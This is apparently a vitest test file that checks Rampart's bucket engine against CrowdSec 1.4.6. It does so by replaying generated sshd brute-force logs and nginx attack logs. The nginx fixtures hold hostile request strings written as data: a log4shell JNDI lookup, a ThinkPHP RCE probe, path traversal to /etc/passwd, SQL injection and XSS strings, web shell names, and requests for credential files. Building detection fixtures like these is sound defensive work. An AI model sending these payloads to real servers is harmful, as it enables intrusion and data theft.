/**
 * Differential parity of the bucket engine against CrowdSec 1.4.6 (issue #4 acceptance, engine
 * part). Attack logs written here (sshd brute force fast/slow/user-enum, benign logins, private
 * range attackers, nginx probing/crawling/bad agents/CVE probes/backdoors/path traversal/sqli/xss)
 * are replayed by the reference with the Debian default collections; Rampart runs the same lines
 * through the hub parser pipeline, the bucket manager and the postoverflows. The sets of
 * (scenario, source) alerts must be equal, or each difference listed in `ALLOWED` with its reason.
 */
import { createHash } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { debianDirectories, hubSourceFromDirectories } from "../../agent/hub/hub-fs.js";
import {
  type CompiledScenario,
  compileHubScenarios,
  createBucketManager,
  overflowEvent,
} from "../../src/engine/buckets/index.js";
import { ExpectMode, newLogEvent } from "../../src/engine/event.js";
import { defaultCompilerFactory } from "../../src/engine/hub/expr-compiler.js";
import { type LoadedHub, loadHub } from "../../src/engine/hub/hub-loader.js";
import {
  CROWDSEC_BIN,
  CROWDSEC_ROOT,
  DEFAULT_COLLECTIONS,
  DEFAULT_EXTRA_PARSERS,
  runCrowdsecDump,
} from "../oracle/crowdsec-dump.js";

const FIXTURE_LOGS = join(import.meta.dirname, "../fixtures/logs");

/** `scenario source` pairs allowed to differ, with the reason. None so far. */
const ALLOWED: { pair: string; reason: string }[] = [];

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const p2 = (n: number) => String(n).padStart(2, "0");
const START = Date.UTC(2023, 2, 1, 10, 0, 0);

/** mulberry32, so the logs are the same on every run. */
function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Timed = { at: number; line: string };

function syslog(at: number, message: string): Timed {
  const d = new Date(at);
  const stamp = `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, " ")} ${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())}`;
  return { at, line: `${stamp} web-1 sshd[${1000 + (at % 9000)}]: ${message}` };
}

/** sshd attacks of every pace, with benign logins and whitelisted private sources around them. */
function sshdLog(): string {
  const rnd = random(4);
  const out: Timed[] = [];
  const users = [
    "root",
    "admin",
    "oracle",
    "git",
    "pi",
    "test",
    "ubuntu",
    "deploy",
    "guest",
    "ftp",
  ];
  const fail = (at: number, ip: string, user: string) =>
    syslog(at, `Failed password for ${user} from ${ip} port ${20000 + (at % 40000)} ssh2`);
  const invalid = (at: number, ip: string, user: string) =>
    syslog(at, `Invalid user ${user} from ${ip} port ${20000 + (at % 40000)}`);
  // Fast brute force: 8 tries 1 s apart.
  for (let a = 0; a < 6; a++) {
    const ip = a === 5 ? "2001:db8:bad::1" : `198.51.100.${10 + a}`;
    for (let i = 0; i < 8; i++) out.push(fail(START + a * 300_000 + i * 1000, ip, "root"));
  }
  // Slow brute force: one try every 5 s, 14 tries (ssh-slow-bf: 10 per 60 s).
  for (let a = 0; a < 4; a++) {
    for (let i = 0; i < 14; i++)
      out.push(fail(START + 60_000 + a * 400_000 + i * 5000, `203.0.113.${20 + a}`, "root"));
  }
  // Borderline paces where the token count reaches exactly 0 through float sums (Go lets a
  // sub-nanosecond debt pass): ssh-bf at one try per 8 s, ssh-slow-bf at one per 6 s.
  for (let i = 0; i < 25; i++) out.push(fail(START + 1_000_000 + i * 8000, "203.0.113.40", "root"));
  for (let i = 0; i < 14; i++) out.push(fail(START + 1_300_000 + i * 6000, "203.0.113.41", "root"));
  // Distinct memory: 7 users 10 s apart, then a burst that repeats the first one among 5 new
  // users. The repeat is a duplicate only if the instance remembers every value it saw.
  const enumUsers = ["u0", "u1", "u2", "u3", "u4", "u5", "u6", "u7", "u8", "u9", "u10", "u11"];
  for (let i = 0; i < 7; i++)
    out.push(invalid(START + 1_500_000 + i * 10_000, "192.0.2.80", enumUsers[i]!));
  for (const user of ["u0", "u7", "u8", "u9", "u10", "u11"]) {
    out.push(invalid(START + 1_580_000, "192.0.2.80", user));
  }
  // Under every threshold: 3 tries 20 s apart.
  for (let a = 0; a < 5; a++) {
    for (let i = 0; i < 3; i++)
      out.push(fail(START + 90_000 + a * 200_000 + i * 20_000, `192.0.2.${30 + a}`, "root"));
  }
  // User enumeration: a new user every 2 s.
  for (let a = 0; a < 3; a++) {
    for (let i = 0; i < 10; i++)
      out.push(invalid(START + 120_000 + a * 500_000 + i * 2000, `192.0.2.${60 + a}`, users[i]!));
  }
  // Slow enumeration: a new user every 6 s (ssh-slow-bf_user-enum).
  for (let i = 0; i < 10; i++)
    out.push(invalid(START + 700_000 + i * 6000, "192.0.2.70", users[i]!));
  // Private-range attackers: whitelisted by crowdsecurity/whitelists, never alerted.
  for (const ip of ["10.0.0.7", "192.168.1.50", "172.16.0.9", "127.0.0.1"]) {
    for (let i = 0; i < 12; i++) out.push(fail(START + 30_000 + i * 500, ip, "root"));
  }
  // Benign logins and noise.
  for (let i = 0; i < 1800; i++) {
    const at = START + Math.floor(rnd() * 1_800_000);
    const ip = `${1 + Math.floor(rnd() * 200)}.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}`;
    const user = users[Math.floor(rnd() * users.length)]!;
    out.push(
      rnd() < 0.8
        ? syslog(at, `Accepted publickey for ${user} from ${ip} port 50000 ssh2: ED25519 SHA256:x`)
        : fail(at, ip, user),
    );
  }
  return render(out);
}

function access(
  at: number,
  ip: string,
  request: string,
  status: number,
  agent = "Mozilla/5.0",
): Timed {
  const d = new Date(at);
  const stamp = `${p2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} +0000`;
  return { at, line: `${ip} - - [${stamp}] "${request}" ${status} 512 "-" "${agent}"` };
}

/** nginx attacks: probing, crawling, bad agents, CVE probes, backdoors, traversal, sqli, xss. */
function nginxLog(): string {
  const rnd = random(7);
  const out: Timed[] = [];
  const get = (path: string) => `GET ${path} HTTP/1.1`;
  // Probing: distinct 404 pages 1 s apart.
  for (let a = 0; a < 3; a++) {
    for (let i = 0; i < 14; i++)
      out.push(
        access(
          START + a * 200_000 + i * 1000,
          `198.51.100.${40 + a}`,
          get(`/page-${a}-${i}.php`),
          404,
        ),
      );
  }
  // Crawling: 60 distinct pages in 3 s.
  for (let i = 0; i < 60; i++)
    out.push(access(START + 400_000 + i * 50, "198.51.100.50", get(`/article/${i}`), 200));
  // Bad user agents.
  for (const [n, agent] of [
    "sqlmap/1.5.2#stable (http://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6)",
    "masscan/1.3",
  ].entries()) {
    for (let i = 0; i < 3; i++)
      out.push(
        access(
          START + 500_000 + n * 10_000 + i * 1000,
          `198.51.100.${60 + n}`,
          get("/"),
          200,
          agent,
        ),
      );
  }
  // CVE probes.
  out.push(
    access(
      START + 600_000,
      "198.51.100.70",
      get(
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x",
      ),
      404,
    ),
  );
  out.push(
    // A log4shell lookup in the user agent (a literal `${`, not a template placeholder).
    access(START + 601_000, "198.51.100.71", get("/"), 200, `$\{jndi:ldap://198.51.100.9:1389/a}`),
  );
  out.push(
    access(START + 602_000, "198.51.100.72", get("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"), 400),
  );
  // Backdoors.
  for (const [i, file] of ["c99.php", "r57.php", "shell.php", "wso.php"].entries()) {
    out.push(access(START + 700_000 + i * 1000, "198.51.100.80", get(`/${file}`), 404));
  }
  // Path traversal.
  for (let i = 0; i < 5; i++)
    out.push(
      access(
        START + 800_000 + i * 1000,
        "198.51.100.90",
        get(`/static/${"../".repeat(i + 2)}etc/passwd`),
        400,
      ),
    );
  // SQL injection probing.
  const sqli = [
    "id=1' OR '1'='1",
    "id=1 UNION SELECT 1,2,3",
    "id=1;DROP TABLE users",
    "q=1' AND SLEEP(5)--",
  ];
  for (let i = 0; i < 14; i++)
    out.push(
      access(
        START + 900_000 + i * 200,
        "198.51.100.100",
        get(`/item.php?${sqli[i % 4]}&n=${i}`),
        200,
      ),
    );
  // XSS probing.
  for (let i = 0; i < 8; i++)
    out.push(
      access(
        START + 1_000_000 + i * 200,
        "198.51.100.110",
        get(`/search?q=<script>alert(${i})</script>`),
        200,
      ),
    );
  // Sensitive files.
  for (const [i, path] of [
    "/.env",
    "/.git/config",
    "/wp-config.php.bak",
    "/.htpasswd",
    "/config.json",
    "/.aws/credentials",
  ].entries()) {
    out.push(access(START + 1_100_000 + i * 500, "198.51.100.120", get(path), 404));
  }
  // A private-range scanner: whitelisted.
  for (let i = 0; i < 20; i++)
    out.push(access(START + 1_200_000 + i * 300, "192.168.0.20", get(`/probe-${i}.php`), 404));
  // Benign traffic.
  const pages = [
    "/",
    "/about",
    "/style.css",
    "/app.js",
    "/img/logo.png",
    "/contact",
    "/blog/post-1",
  ];
  for (let i = 0; i < 900; i++) {
    const at = START + Math.floor(rnd() * 1_800_000);
    const ip = `${1 + Math.floor(rnd() * 200)}.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}`;
    out.push(
      access(at, ip, get(pages[Math.floor(rnd() * pages.length)]!), rnd() < 0.9 ? 200 : 404),
    );
  }
  return render(out);
}

function render(lines: Timed[]): string {
  return `${lines
    .sort((a, b) => a.at - b.at)
    .map((t) => t.line)
    .join("\n")}\n`;
}

/** The scenarios of the default collections from the Debian hub, hashed like 1.4.6. */
function loadScenarios(): CompiledScenario[] {
  const result = compileHubScenarios(hubSourceFromDirectories(debianDirectories(CROWDSEC_ROOT)), {
    collections: DEFAULT_COLLECTIONS,
    compilerFactory: defaultCompilerFactory,
    hash: (content) => createHash("sha256").update(content).digest("hex"),
  });
  expect(result.problems).toEqual([]);
  expect(result.missing).toEqual([]);
  return result.scenarios;
}

/** Our side: parser pipeline → bucket manager → postoverflows, 1.4.6's replay flow. */
function ourAlerts(hub: LoadedHub, scenarios: CompiledScenario[], lines: string[], type: string) {
  const manager = createBucketManager(scenarios);
  const alerts: Projection[] = [];
  const pending = [];
  for (const raw of lines) {
    const evt = newLogEvent(
      { Raw: raw, Src: "/var/log/test.log", Module: "file", Labels: { type }, Process: true },
      ExpectMode.TIMEMACHINE,
    );
    const parsed = hub.parsers.parse(evt);
    if (!parsed.process || evt.Whitelisted) continue;
    pending.push(...manager.pourEvent(evt).overflows);
    while (pending.length > 0) {
      const overflow = pending.shift()!;
      if (overflow.dropped) continue;
      const ovflw = overflowEvent(overflow);
      hub.postoverflows.parse(ovflw);
      if (ovflw.Overflow.Whitelisted) continue;
      for (const alert of overflow.alerts) {
        alerts.push({
          scenario: alert.scenario,
          source: alert.source.value,
          events_count: alert.events_count,
          events: alert.events.length,
          start_at: alert.start_at,
          stop_at: alert.stop_at,
          capacity: alert.capacity,
          leakspeed: alert.leakspeed,
          remediation: alert.remediation,
          scenario_hash: alert.scenario_hash,
          scenario_version: alert.scenario_version,
          message: alert.message,
        });
      }
      if (overflow.reprocess) pending.push(...manager.pourEvent(ovflw).overflows);
    }
  }
  return alerts;
}

/** The alert fields compared beyond the (scenario, source) pair, in one line. */
interface Projection {
  scenario: string;
  source: string;
  events_count: number;
  events: number;
  start_at: string;
  stop_at: string;
  capacity: number;
  leakspeed: string;
  remediation: boolean;
  scenario_hash: string;
  scenario_version: string;
  message: string;
}

const pairOf = (p: Projection) => `${p.scenario} ${p.source}`;

/**
 * The reference side: 1.4.6 `-dump-data` writes every overflow event to `bucket-dump.yaml`
 * (`Overflow.Alert` is null for a blackholed one; go-yaml lowercases the field names); one alert
 * per source.
 */
function theirAlerts(dump: unknown): Projection[] {
  const out: Projection[] = [];
  for (const evt of Array.isArray(dump) ? dump : []) {
    const overflow = (evt as { Overflow?: { Alert?: Record<string, unknown>; Sources?: object } })
      .Overflow;
    const alert = overflow?.Alert;
    if (!alert?.scenario) continue;
    for (const source of Object.keys(overflow?.Sources ?? {})) {
      out.push({
        scenario: String(alert.scenario),
        source,
        events_count: Number(alert.eventscount),
        events: (alert.events as unknown[]).length,
        start_at: String(alert.startat),
        stop_at: String(alert.stopat),
        capacity: Number(alert.capacity),
        leakspeed: String(alert.leakspeed),
        remediation: alert.remediation === true,
        scenario_hash: String(alert.scenariohash),
        scenario_version: String(alert.scenarioversion),
        message: String(alert.message),
      });
    }
  }
  return out;
}

const available = existsSync(CROWDSEC_BIN);

describe.skipIf(!available)("bucket engine vs CrowdSec 1.4.6 on replayed attack logs", () => {
  let hub: LoadedHub;
  let scenarios: CompiledScenario[];
  let dir: string;

  beforeAll(() => {
    hub = loadHub(hubSourceFromDirectories(debianDirectories(CROWDSEC_ROOT)), {
      collections: DEFAULT_COLLECTIONS,
      parsers: DEFAULT_EXTRA_PARSERS,
      includeScenarios: false,
      compilerFactory: defaultCompilerFactory,
    });
    scenarios = loadScenarios();
    dir = mkdtempSync(join(tmpdir(), "rampart-buckets-"));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it("compiles every scenario of the default collections", () => {
    expect(scenarios.length).toBeGreaterThanOrEqual(40);
    expect(new Set(scenarios.map((s) => s.type))).toEqual(new Set(["leaky", "trigger"]));
  });

  const fixture = (name: string) => () => readFileSync(join(FIXTURE_LOGS, name), "utf8");
  for (const log of [
    { file: "sshd-attacks.log", type: "syslog", make: sshdLog, minAlerts: 25 },
    { file: "nginx-attacks.log", type: "nginx", make: nginxLog, minAlerts: 12 },
    // The parser-diff logs (scripts/gen-logs.ts): random sources, odd lines, IPv6, private ranges.
    { file: "sshd.log", type: "syslog", make: fixture("sshd.log"), minAlerts: 0 },
    { file: "nginx.log", type: "nginx", make: fixture("nginx.log"), minAlerts: 0 },
  ]) {
    it(`raises the same (scenario, source) alerts as the reference on ${log.file}`, async () => {
      const path = join(dir, log.file);
      const text = log.make();
      writeFileSync(path, text);
      const oracle = await runCrowdsecDump({ logFile: path, type: log.type });
      // As the file acquisition reads them: a trailing \r dropped, empty lines skipped.
      const lines = text
        .split("\n")
        .map((line) => (line.endsWith("\r") ? line.slice(0, -1) : line))
        .filter((line) => line !== "");
      const theirAll = theirAlerts(oracle.bucketDump);
      const ourAll = ourAlerts(hub, scenarios, lines, log.type);
      const theirs = new Set(theirAll.map(pairOf));
      const ours = new Set(ourAll.map(pairOf));
      const allowed = new Set(ALLOWED.map((a) => a.pair));
      const onlyOurs = [...ours].filter((p) => !theirs.has(p) && !allowed.has(p)).sort();
      const onlyTheirs = [...theirs].filter((p) => !ours.has(p) && !allowed.has(p)).sort();
      console.log(
        `${log.file}: ${lines.length} lines, ${theirAll.length} reference alerts (${theirs.size} pairs), ${ourAll.length} ours`,
      );
      expect({ onlyOurs, onlyTheirs }).toEqual({ onlyOurs: [], onlyTheirs: [] });
      expect(theirs.size).toBeGreaterThanOrEqual(log.minAlerts);
      // Every alert, field by field (counts, times, message, hash), as a sorted multiset.
      const sorted = (list: Projection[]) =>
        list
          .filter((p) => !allowed.has(pairOf(p)))
          .map((p) => JSON.stringify(p))
          .sort();
      expect(sorted(ourAll)).toEqual(sorted(theirAll));
    });
  }
});
